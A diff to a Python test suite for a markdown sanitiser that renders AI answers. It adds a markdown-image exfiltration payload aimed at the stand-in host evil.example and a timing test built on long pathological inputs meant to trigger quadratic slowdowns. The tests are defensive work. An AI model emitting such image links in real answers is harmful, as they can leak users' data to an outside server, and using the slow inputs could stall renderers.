@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+import time
 
 import pytest
 from hypothesis import given
@@ -82,6 +83,7 @@ def test_known_ways_to_act_do_nothing(text: str) -> None:
     [
         "![](http://evil.example/leak?data)",
         "!![alt](http://evil.example/leak)",
+        "!!!!![alt](http://evil.example/leak)",
         "![alt][x]\n\n[x]: http://evil.example/leak",
         '![a](http://evil.example "title")',
         "!<http://evil.example>",
@@ -94,6 +96,31 @@ def test_known_ways_to_act_do_nothing(text: str) -> None:
 )
 def test_no_answer_makes_the_page_fetch_an_image(text: str) -> None:
     assert all("img" not in Page(render(inert(text))).tags for render in RENDERERS.values())
+
+
+def ticks(length: int) -> str:
+    """Runs of all lengths, none of which finds its partner."""
+    return " ".join("`" * run for run in range(1, int((2 * length) ** 0.5)))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "!" * 50_000,
+        "[" * 50_000,
+        "\\" * 50_000,
+        "$a" * 25_000,
+        "[a](x" + "(" * 50_000,
+        '[a](b "' * 8_000,
+        ticks(50_000),
+    ],
+    ids=lambda text: text[:8],
+)
+def test_no_text_makes_the_page_wait(text: str) -> None:
+    """Quadratic patterns took minutes here; an answer is written anew ten times a second while it grows."""
+    start = time.process_time()
+    inert(text)
+    assert time.process_time() - start < 2
 
 
 def test_an_image_is_a_link_to_it() -> None:
